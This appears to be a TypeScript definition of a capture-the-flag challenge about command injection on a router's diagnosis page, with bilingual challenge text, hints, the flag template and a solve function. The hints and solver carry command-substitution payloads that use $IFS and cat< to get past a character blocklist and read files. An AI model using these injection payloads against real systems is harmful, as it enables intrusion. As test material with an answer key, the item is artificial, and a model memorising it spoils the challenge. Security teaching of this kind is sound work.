import type { DemoQuestion } from '../demo-question.ts'
import { retryUntilFound } from '../read/retry.ts'
import { flagIn, found } from '../read/text.ts'

export const diagnosis: DemoQuestion = {
  slug: 'attack-defense/diagnosis',
  bank: 'attack-defense',
  name: { zh: '网络诊断页', en: 'The Diagnosis Page' },
  content: {
    zh: '<p>路由器的诊断页会把输入的主机名拼进一条 shell 命令。空格、分号、竖线、与号都会被拒绝，开发者觉得这样就够了。</p><p>flag 在 <code>/run/diagnosis</code> 目录里，文件名每次都不一样。</p>',
    en: '<p>A router’s diagnosis page puts the host that you type into a shell command. Blanks, semicolons, bars and ampersands are refused, and the developer felt that this would do.</p><p>The flag is in the folder <code>/run/diagnosis</code>, under a name that differs each time.</p>',
  },
  category: 'web',
  tags: ['command-injection', 'http', 'environment'],
  difficulty: 3,
  minutes: 30,
  points: 200,
  hints: [
    {
      price: 20,
      zh: 'shell 里还有一种写法：<code>$( … )</code>。',
      en: 'A shell also knows <code>$( … )</code>.',
    },
    {
      price: 25,
      zh: '没有空格也能读文件：<code>cat&lt;文件</code>，或者用 <code>$IFS</code>。',
      en: 'Files can be read without a blank: <code>cat&lt;file</code>, or with <code>$IFS</code>.',
    },
  ],
  template: 'diagnosis',
  answer: { kind: 'flag', template: 'flag{a_blocklist_is_a_wish_[TEAM]}' },
  solve: async ({ inside }) => {
    const said = async (host: string) =>
      (await inside.get(`/cgi-bin/diagnose?host=${encodeURIComponent(host)}`)).body
    const name = await retryUntilFound(async () => found(await said('$(ls$IFS/run/diagnosis)'), /note-\w+/))
    return flagIn(await said(`$(cat</run/diagnosis/${name})`))
  },
}
